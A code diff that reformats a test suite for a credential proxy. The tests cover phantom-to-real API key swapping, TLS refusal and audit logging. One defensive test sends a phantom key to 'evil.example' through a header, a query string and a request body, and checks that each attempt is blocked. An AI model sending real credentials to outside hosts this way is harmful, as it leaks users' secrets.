@@ -62,7 +62,11 @@ describe('phantom swap on the bound host', () => {
 
   test('x-api-key header: upstream sees the real key, never the phantom; client never sees the key', async () => {
     const from = upstream.seen.length;
-    const r = await get(`https://${HOST}/v1/messages`, { method: 'POST', headers: { 'x-api-key': phantom, 'content-type': 'application/json' }, body: '{"model":"m"}' });
+    const r = await get(`https://${HOST}/v1/messages`, {
+      method: 'POST',
+      headers: { 'x-api-key': phantom, 'content-type': 'application/json' },
+      body: '{"model":"m"}',
+    });
     expect(r.status).toBe(200);
     expect(JSON.parse(r.text)).toMatchObject({ ok: true, path: '/v1/messages' });
     const seen = seenSince(from, '/v1/messages');
@@ -196,7 +200,11 @@ describe('phantom sent to a host it is not bound to', () => {
     const from = upstream.seen.length;
     const viaHeader = await get('https://evil.example/h', { headers: { authorization: `Bearer ${phantom}` } });
     const viaQuery = await get(`https://evil.example/q?key=${phantom}`);
-    const viaBody = await get('https://evil.example/b', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ k: phantom }) });
+    const viaBody = await get('https://evil.example/b', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ k: phantom }),
+    });
     for (const r of [viaHeader, viaQuery, viaBody]) {
       expect(r.status).toBe(403);
       expect(r.text).not.toContain(SECRET);
@@ -275,7 +283,11 @@ describe('upstream with an untrusted certificate', () => {
 
   test('refused with 502 upstream_tls; the untrusted server never receives the request or the secret', async () => {
     const cred = await d2.client.call('cred.add', { name: 'anthropic', hosts: [HOST], header: 'x-api-key', secret: SECRET });
-    const r = await d2.fetch(`https://${HOST}/v1/messages`, { method: 'POST', headers: { 'x-api-key': cred.phantom, 'content-type': 'application/json' }, body: '{}' });
+    const r = await d2.fetch(`https://${HOST}/v1/messages`, {
+      method: 'POST',
+      headers: { 'x-api-key': cred.phantom, 'content-type': 'application/json' },
+      body: '{}',
+    });
     clientBytes.push(r.text);
     expect(r.status).toBe(502);
     expect(JSON.parse(r.text).sluice.code).toBe('upstream_tls');
@@ -341,7 +353,13 @@ describe('audit, restart and the bytes on disk', () => {
       await c.call('cred.update', { name: 'anthropic', max_concurrent: 9 }),
     );
     // The update's audit row is on disk before the DB bytes are read (audit.tail flushes the queue).
-    await waitFor(async () => (await c.call('audit.tail', { n: 20 })).rows.some((r) => r.event === 'cred_updated' && r.credential === 'anthropic' && (r.detail ?? '').includes('max_concurrent')), 'the cred_updated audit row');
+    await waitFor(
+      async () =>
+        (await c.call('audit.tail', { n: 20 })).rows.some(
+          (r) => r.event === 'cred_updated' && r.credential === 'anthropic' && (r.detail ?? '').includes('max_concurrent'),
+        ),
+      'the cred_updated audit row',
+    );
     const home = daemon().home;
     const dbFiles = ['sluice.db', 'sluice.db-wal', 'sluiced.log'].map((f) => path.join(home, f));
     expect(fs.existsSync(dbFiles[0]!)).toBe(true);
